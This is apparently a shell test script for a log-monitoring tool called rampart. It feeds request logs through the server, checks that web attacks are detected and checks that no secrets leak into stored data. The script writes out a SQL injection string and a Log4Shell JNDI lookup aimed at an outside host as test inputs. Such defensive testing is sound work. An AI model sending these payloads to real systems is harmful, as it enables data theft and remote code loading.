# The Body Log secrets test with web detection on: `rampart serve` tails the Body Log sample
# and an attacked copy of every line (SQL injection added to the query and to password
# fields, Log4Shell in the user agent, the request's own secrets still in its headers, cookies
# and body). The attacks become web detections, and still no secret from sample.secrets, raw
# or URL-encoded, occurs anywhere under the data directory: not in events, not in detection
# evidence, not in the endpoint model.
source "$(dirname "$0")/lib.sh"
need_corpus bodylog/sample.jsonl
D=$TMP/data
API_PORT=$(free_port)
API=http://127.0.0.1:$API_PORT

python3 - "$CORPUS/bodylog/sample.jsonl" > "$TMP/attacked.jsonl" <<'PY'
import json, sys, urllib.parse
sqli = "1' UNION SELECT password FROM users--"
for line in open(sys.argv[1], encoding="utf-8"):
    r = json.loads(line)
    print(json.dumps(r, ensure_ascii=False))
    a = dict(r)
    sep = "&" if "?" in a.get("uri", "") else "?"
    a["uri"] = a.get("uri", "/") + sep + "id=" + urllib.parse.quote(sqli)
    a["user_agent"] = "${jndi:ldap://198.51.100.7/a}"
    body = a.get("request_body") or ""
    if "password=" in body:  # the attack inside a field the masking policy hides whole
        a["request_body"] = body.replace("password=", "password=" + urllib.parse.quote(sqli) + "%20", 1)
    print(json.dumps(a, ensure_ascii=False))
PY
: > "$TMP/body.log"
cat > "$TMP/rampart.yaml" <<YAML
data_dir: $D
inputs:
  syslog: { udp: "", tcp: "" }
  files:
    - { path: $TMP/body.log, format: bodylog }
  http: { listen: 127.0.0.1:$API_PORT }
detection:
  rules: []
web:
  rules: [$SRC/rules/web]
  model: { learn_requests: 10, save_interval: 1s }
response:
  policies: []
YAML
start_serve "$TMP/rampart.yaml" "$API/v1/health"
cat "$TMP/attacked.jsonl" >> "$TMP/body.log"
N=$(wc -l < "$TMP/attacked.jsonl")
detections() { curl -sf -H "Authorization: Bearer $ADMIN_TOKEN" "$API/v1/detections?limit=5000"; }
wait_for 20 bash -c "[ \$(curl -sf -H 'Authorization: Bearer $ADMIN_TOKEN' '$API/v1/detections?limit=5000' | grep -c '\"kind\":\"web\"') -ge $((N / 2)) ]" \
  || { detections | head -c 2000; fail "fewer than $((N / 2)) web detections"; }
detections > "$TMP/detections.ndjson"
kill -TERM "$SERVER_PID"
wait "$SERVER_PID" 2>/dev/null || true
SERVER_PID=""
grep -q "web: $N request(s) inspected" "$TMP/serve.log" || { cat "$TMP/serve.log"; fail "not every request inspected"; }
ls "$D"/tenants/default/web_model.txt >/dev/null || fail "no endpoint model saved"

python3 - "$CORPUS/bodylog/sample.secrets" "$D" "$TMP/detections.ndjson" <<'PY'
import os, sys, urllib.parse
secrets = [l.rstrip("\n") for l in open(sys.argv[1], encoding="utf-8") if l.strip()]
forms = set()
for s in secrets:
    for f in (s, urllib.parse.quote(s, safe=""), urllib.parse.quote_plus(s, safe=""),
              urllib.parse.quote(s, safe="").lower(), urllib.parse.quote(s)):
        forms.add(f)
blobs = [(sys.argv[3], open(sys.argv[3], "rb").read())]
for root, _, files in os.walk(sys.argv[2]):
    for f in files:
        p = os.path.join(root, f)
        blobs.append((p, open(p, "rb").read()))
found = [(form, p) for form in sorted(forms) for p, data in blobs if form.encode() in data]
for form, p in found[:20]:
    print("LEAK:", repr(form), "in", p)
if found:
    sys.exit(1)
web = sum(1 for l in open(sys.argv[3]) if '"kind":"web"' in l)
print("ok: %d web detections; %d secrets (%d forms) absent from %d files and the detections"
      % (web, len(secrets), len(forms), len(blobs) - 1))
PY
